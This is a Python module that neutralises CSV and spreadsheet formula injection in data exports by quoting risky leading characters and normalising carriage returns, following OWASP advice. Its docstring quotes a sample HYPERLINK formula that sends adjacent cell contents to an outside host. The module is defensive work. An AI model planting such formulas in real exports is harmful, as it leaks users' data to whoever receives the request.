"""Text cells made safe to open in a spreadsheet program (CSV and formula injection).

A citizen's comment, or a unit name imported from a file, may start with ``=``: Excel and LibreOffice then run it
as a formula when the export is opened (``=HYPERLINK("http://x/?"&A1,"click")`` sends the neighbouring cells to
anyone's server), and openpyxl writes such a string to XLSX as a formula outright. Following OWASP's advice on CSV
injection (https://owasp.org/www-community/attacks/CSV_Injection), a text cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading ``'``, so the program shows it as text; a cell that is
nothing but a number (``-3``, ``+1.5e3``) is left alone, since it cannot be a formula and readers want the value.
A carriage return inside a cell becomes a line feed: pandas' CSV writer (lines ending in ``\n``) does not quote a
field for a bare ``\r``, and a spreadsheet program starts a new row there, so ``x\r=1+1`` would put ``=1+1`` in
a cell of its own.

Every CSV and XLSX writer of the project (``analysis`` and ``survey_app.reports``) passes its frame through
:func:`spreadsheet_safe` just before writing; with the leading ``'`` no text cell reaches openpyxl looking like a
formula, so XLSX text cells are written as strings. Stata ``.dta`` files are left as they are: Stata has no
formulas and an analyst's data should not change where there is nothing to protect.
"""

from __future__ import annotations

import re

import pandas as pd

#: Characters that make a spreadsheet program read a cell as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_RISKY = r"^[=+\-@\t\r]"
_NUMBER = r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$"
_NUMBER_MATCH = re.compile(_NUMBER).match


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names cannot start a formula (see the module docstring).

    Numbers, dates and booleans are untouched; text columns keep their dtype (``category`` becomes ``object``
    only when one of its labels changes).
    """
    out = frame.copy()
    out.columns = [_safe_text(c) if isinstance(c, str) else c for c in out.columns]
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if isinstance(column.dtype, pd.CategoricalDtype):
            if _needs_quote(pd.Series(column.cat.categories, dtype=object)).any():
                out.isetitem(position, _quoted(column.astype(object)))  # type: ignore[arg-type]  # stubs lack Series
        elif column.dtype == object or pd.api.types.is_string_dtype(column.dtype):
            out.isetitem(position, _quoted(column))  # type: ignore[arg-type]  # pandas takes a Series
    return out


def safe_cell(text: str) -> str:
    """One text cell made safe, by the rules of :func:`spreadsheet_safe` (for writers that go row by row)."""
    if text[:1] in FORMULA_STARTS and not _NUMBER_MATCH(text):
        text = "'" + text
    return text.replace("\r\n", "\n").replace("\r", "\n") if "\r" in text else text


def _safe_text(text: str) -> str:
    return safe_cell(text)


def _needs_quote(values: pd.Series) -> pd.Series:
    """Cells that are text starting like a formula (vectorised: exports may have a million rows)."""
    try:
        starts = values.str.match(_RISKY)
    except AttributeError:  # an object column holding no text at all
        return pd.Series(False, index=values.index)
    risky = starts.fillna(False).astype(bool)
    if risky.any():
        risky &= ~values.str.fullmatch(_NUMBER).fillna(False).astype(bool)
    return risky


def _quoted(values: pd.Series) -> pd.Series:
    risky = _needs_quote(values)
    out = values.copy() if risky.any() else values
    if risky.any():
        out[risky] = "'" + values[risky].astype(str)
    try:
        returns = out.str.contains("\r", regex=False).fillna(False).astype(bool)
    except AttributeError:
        return out
    if returns.any():
        out = out.copy()
        out[returns] = out[returns].str.replace("\r\n", "\n", regex=False).str.replace("\r", "\n", regex=False)
    return out
